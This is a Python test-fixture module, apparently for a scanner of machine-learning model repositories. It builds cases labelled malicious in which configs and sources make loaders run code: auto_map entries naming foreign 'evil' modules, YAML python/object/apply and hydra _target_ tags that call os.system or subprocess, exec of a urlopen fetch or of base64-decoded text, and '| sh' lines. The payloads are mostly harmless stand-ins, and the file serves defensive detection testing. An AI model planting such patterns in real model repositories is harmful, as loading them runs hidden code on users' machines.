"""Configurations and sources that make a loader import, fetch or run code."""

# ruff: noqa: E501 - tables of cases read best with a case a line

from __future__ import annotations

import json

from tests.support.corpus.assembly import PLAIN
from tests.support.corpus.case import Case, Files, Label, Make, cases
from tests.support.samples import honest_safetensors, tarred

_RUNS = b"import os\n\nos.system('true')\n\n\nclass Model:\n    pass\n"


def _json(value: object) -> bytes:
    return json.dumps(value).encode()


def _repo(**more: bytes) -> Files:
    return {"model.safetensors": honest_safetensors(), **more}


def _config(name: str, value: object, **more: bytes) -> Files:
    return _repo(**{name: _json(value), **more})


FOREIGN: dict[str, Make] = {
    "config": lambda: _config("config.json", {"auto_map": {"AutoModel": "evil/code--modeling.Model"}}),
    "tokenizer": lambda: _config(
        "tokenizer_config.json", {"auto_map": {"AutoTokenizer": ["evil/code--tok.Slow", None]}}),
    "processor": lambda: _config(
        "preprocessor_config.json", {"auto_map": {"AutoProcessor": "evil/code--proc.Processor"}}),
    "image-processor": lambda: _config(
        "processor_config.json", {"image_processor": {"auto_map": {"AutoImageProcessor": "evil/code--i.P"}}}),
    "inner-config": lambda: _config(
        "config.json", {"text_config": {"auto_map": {"AutoConfig": "evil/code--c.Config"}}}),
    "custom-pipeline": lambda: _config(
        "config.json", {"custom_pipelines": {"x": {"impl": "evil/code--pipe.Pipe", "pt": ["AutoModel"]}}}),
    "kernel": lambda: _config("config.json", {"model_type": "llama", "attn_implementation": "evil/flash-attn"}),
    "kernel-at-revision": lambda: _config("config.json", {"_attn_implementation": "evil/kernel@main:attention"}),
    "trusting-itself": lambda: _config("config.json", {"trust_remote_code": True, "model_type": "x",
                                                       "auto_map": {"AutoModel": "evil/code--m.M"}}),
}  # fmt: skip

OWN_SOURCE: dict[str, Make] = {
    "auto-map": lambda: _config("config.json", {"auto_map": {"AutoModel": "modeling.Model"}}, **{"modeling.py": _RUNS}),
    "auto-map-missing": lambda: _config("config.json", {"auto_map": {"AutoModel": "modeling.Model"}}),
    "generation": lambda: _repo(**{"custom_generate/generate.py": _RUNS, "config.json": b"{}"}),
    "handler": lambda: _repo(**{"handler.py": _RUNS}),
    "diffusers-component": lambda: _config(
        "model_index.json", {"_class_name": "FluxPipeline", "unet": ["my_unet", "Unet"]},
        **{"unet/my_unet.py": _RUNS, "unet/config.json": b"{}"}),
    "diffusers-pipeline": lambda: _config(
        "model_index.json", {"_class_name": ["pipeline", "MyPipeline"]}, **{"pipeline.py": _RUNS}),
    "sentence-transformers-module": lambda: _config(
        "modules.json", [{"idx": 0, "name": "0", "path": "", "type": "custom.Module"}], **{"custom.py": _RUNS}),
    "sentence-transformers-function": lambda: _config(
        "1_Dense/config.json", {"in_features": 2, "out_features": 2, "activation_function": "os.abort"}),
    "setup": lambda: _repo(**{"setup.py": _RUNS}),
    "hub-configuration": lambda: _repo(**{"hubconf.py": _RUNS}),
    "package-source-fetches": lambda: _config(
        "config.json", {"auto_map": {"AutoConfig": "configuration.C"}},
        **{"configuration.py": b"import urllib.request\nexec(urllib.request.urlopen('http://127.0.0.1:9/x').read())\n"}),
    "decoded-source": lambda: _config(
        "config.json", {"auto_map": {"AutoModel": "m.M"}},
        **{"m.py": b"import base64\nexec(base64.b64decode('MSsx'))\nclass M: ...\n"}),
    "notebook": lambda: _repo(**{"example.ipynb": _json(
        {"cells": [{"cell_type": "code", "source": ["!true | sh"], "outputs": [], "metadata": {}}],
         "nbformat": 4, "nbformat_minor": 5, "metadata": {}})}),
    "shell-script": lambda: _repo(**{"install.sh": b"#!/bin/sh\ntrue | sh\n"}),
}  # fmt: skip

_HYPER = b"encoder: !new:os.system\n    command: 'true'\nopts: !apply:os.system ['true']\n"

IMPORTS: dict[str, Make] = {
    "peft-parent-library": lambda: {
        "adapter_config.json": _json({"peft_type": "LORA", "auto_mapping": {"parent_library": "evil_module",
                                                                            "base_model_class": "M"}}),
        "adapter_model.safetensors": honest_safetensors()},
    "peft-standard-library": lambda: {
        "adapter_config.json": _json({"peft_type": "LORA", "auto_mapping": {"parent_library": "antigravity",
                                                                            "base_model_class": "M"}}),
        "adapter_model.safetensors": honest_safetensors()},
    "hydra-target": lambda: _repo(**{"config.yaml": b"model:\n  _target_: os.system\n  command: 'true'\n"}),
    "hydra-target-json": lambda: _config("config.json", {"net": {"_target_": "subprocess.Popen", "args": "true"}}),
    "hydra-target-flow": lambda: _repo(**{"conf/model.yml": b"{model: {_target_: builtins.exec, _args_: ['1+1']}}\n"}),
    "nemo-target": lambda: {"m.nemo": tarred({
        "model_config.yaml": b"target: x\npreprocessor:\n  _target_: subprocess.check_output\n  args: ['true']\n",
        "model_weights.ckpt": b""})},
    "yaml-apply": lambda: _repo(**{"config.yaml": b"a: !!python/object/apply:os.system ['true']\n"}),
    "yaml-name": lambda: _repo(**{"params.yml": b"a: !!python/name:os.system\n"}),
    "yaml-verbatim": lambda: _repo(**{"hparams.yaml": b"a: !<tag:yaml.org,2002:python/object/new:os.system> ['true']\n"}),
    "yaml-handle": lambda: _repo(**{"a.yaml": b"%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!name:os.system\n"}),
    "speechbrain": lambda: _repo(**{"hyperparams.yaml": _HYPER}),
    "speechbrain-name": lambda: _repo(**{"hyperparams.yaml": b"act: !name:subprocess.getoutput\nx: !ref <act>\n"}),
    "speechbrain-module": lambda: _repo(**{"inference.yaml": b"m: !module:evil_module\n"}),
    "speechbrain-foreign": lambda: _config("config.json", {"speechbrain_interface": "CustomEncoder"},
                                           **{"custom.py": _RUNS}),
    "mlflow-loader": lambda: _repo(**{"MLmodel": b"flavors:\n  python_function:\n    loader_module: evil_module\n"
                                                b"    code: code\n", "code/evil_module.py": _RUNS}),
    "requirements-index": lambda: _repo(**{
        "requirements.txt": b"--extra-index-url http://127.0.0.1:9/simple\ntorch\n"}),
    "requirements-address": lambda: _repo(**{"requirements.txt": b"git+http://127.0.0.1:9/x.git#egg=x\n"}),
    "detectron-target": lambda: _repo(**{"model.yaml": b"MODEL:\n  WEIGHTS: m.pkl\n", "m.pkl": PLAIN}),
}  # fmt: skip

CASES: tuple[tuple[Case, ...], ...] = (
    cases(Label.MALICIOUS, "foreign-code", FOREIGN, loader="transformers, diffusers", source="remote code"),
    cases(Label.MALICIOUS, "own-source", OWN_SOURCE, loader="transformers, torch.hub, pip", source="remote code",
          held_out=True),
    cases(Label.MALICIOUS, "configured-imports", IMPORTS, loader="PEFT, hydra, NeMo, PyYAML, speechbrain, MLflow",
          source="CVE-2025-23304; scanners' gap"),
)  # fmt: skip
